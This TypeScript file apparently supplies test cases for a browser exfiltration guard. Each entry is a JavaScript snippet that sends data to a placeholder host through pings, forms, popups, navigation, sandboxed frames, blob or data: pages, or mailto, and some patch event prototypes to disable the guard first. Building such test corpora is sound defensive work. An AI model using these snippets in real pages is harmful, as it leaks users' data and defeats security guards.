import { leaving, markup, page, withAttributes, type Channel } from './channel.ts';

/** Pings, forms, windows, and the page itself going elsewhere with the data in its address. */
export const leavingChannels: readonly Channel[] = [
  page('a ping', `const a=document.createElement('a');a.href='#x';a.setAttribute('ping',U.h+'/ping?'+U.d);document.body.append(a);a.click()`, {
    gesture: true,
  }),
  page(
    'form into iframe',
    "const f=document.createElement('iframe');f.name='ff';document.body.append(f);" +
      markup('`<form action="${U.h}/form-frame.html" target=ff><input name=q value=${U.d}></form>`') +
      'e.firstChild.submit()',
  ),
  page(
    'form into new tab',
    markup('`<form action="${U.h}/form-open.html" target=_blank><input name=q value=${U.d}></form>`') + 'e.firstChild.submit()',
    { gesture: true },
  ),
  leaving('form, same tab', markup('`<form method=post action="${U.h}/form-nav.html"><input name=q value=${U.d}></form>`') + 'e.firstChild.submit()'),
  leaving('window.open', `window.open(U.h+'/open.html?'+U.d)`),
  leaving('window.open noopener', `window.open(U.h+'/open2.html?'+U.d,'_blank','noopener')`),
  leaving(
    'window.open own page, then move it',
    `const w=window.open(location.href.split('#')[0]);await new Promise(r=>setTimeout(r,1500));w.location=U.h+'/open-nav.html?'+U.d`,
  ),
  leaving('window.open about:blank, then move it', `const w=window.open('about:blank');w.location=U.h+'/open-blank.html?'+U.d`),
  leaving(
    'a target=_blank',
    `const a=document.createElement('a');a.href=U.h+'/a-open.html?'+U.d;a.target='_blank';document.body.append(a);a.click()`,
  ),
  leaving('a click', `const a=document.createElement('a');a.href=U.h+'/a-nav.html?'+U.d;document.body.append(a);a.click()`),
  leaving(
    'a download of a remote URL',
    `const a=document.createElement('a');a.href=U.h+'/a-nav-dl.html?'+U.d;a.download='x';document.body.append(a);a.click()`,
  ),
  leaving(
    'SVG a click',
    `const s=document.createElementNS('http://www.w3.org/2000/svg','svg');const a=document.createElementNS('http://www.w3.org/2000/svg','a');a.setAttribute('href',U.h+'/svg-nav.html?'+U.d);s.append(a);document.body.append(s);a.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true}))`,
  ),
  leaving('location.href', `location.href=U.h+'/nav.html?'+U.d`),
  leaving('location.replace', `location.replace(U.h+'/nav2.html?'+U.d)`),
  leaving('navigation.navigate', `navigation.navigate(U.h+'/nav3.html?'+U.d)`),
  leaving('meta refresh', withAttributes('meta', `'http-equiv':'refresh',content:'0;url='+U.h+'/nav-refresh.html?'+U.d`, 'head')),
  leaving(
    'iframe realm moves top',
    `const f=document.createElement('iframe');document.body.append(f);f.contentWindow.top.location=U.h+'/nav-top.html?'+U.d`,
  ),
  leaving('iframe realm opens', `const f=document.createElement('iframe');document.body.append(f);f.contentWindow.open(U.h+'/open-realm.html?'+U.d)`),
  leaving(
    'sandboxed frame moves top',
    'const f=document.createElement(\'iframe\');f.sandbox=\'allow-scripts allow-top-navigation allow-popups\';f.srcdoc=`<a id=a target=_top href="${U.h}/nav-sb.html?${U.d}">x</a><meta http-equiv=refresh content="0;url=${U.h}/frame-sb.html?${U.d}">`;document.body.append(f)',
  ),
  leaving(
    'blob page that loads the app without its guard',
    'location.href=URL.createObjectURL(new Blob([`<meta http-equiv=refresh content="0;url=${U.h}/nav-blob.html?${U.d}">`],{type:\'text/html\'}))',
  ),
  leaving('data: page', 'location.href=`data:text/html,<meta http-equiv=refresh content="0;url=${U.h}/nav-data.html?${U.d}">`'),
  leaving(
    'own asset page, then history',
    `const w=document.createElement('iframe');w.src=[...document.scripts].map(s=>s.src).find(Boolean)||location.href;document.body.append(w);await new Promise(r=>w.onload=r);w.contentWindow.location=U.h+'/frame-asset.html?'+U.d`,
  ),
  leaving(
    'guard removed: prototypes patched, then location',
    `Event.prototype.preventDefault=()=>{};Event.prototype.stopImmediatePropagation=()=>{};try{NavigateEvent.prototype.preventDefault=()=>{}}catch{};Object.defineProperty(NavigateEvent.prototype,'cancelable',{get:()=>false});Object.defineProperty(NavigationDestination.prototype,'url',{get:()=>location.href});location.href=U.h+'/nav-patched.html?'+U.d`,
  ),
  leaving(
    'guard removed: document.open, then location',
    `document.open();document.write('<p>x');document.close();location.href=U.h+'/nav-docopen.html?'+U.d`,
  ),
  leaving('mailto: (hands data to another program)', `location.href='mailto:x@'+U.dns+'?body='+U.d`, { oracle: 'none' }),
];
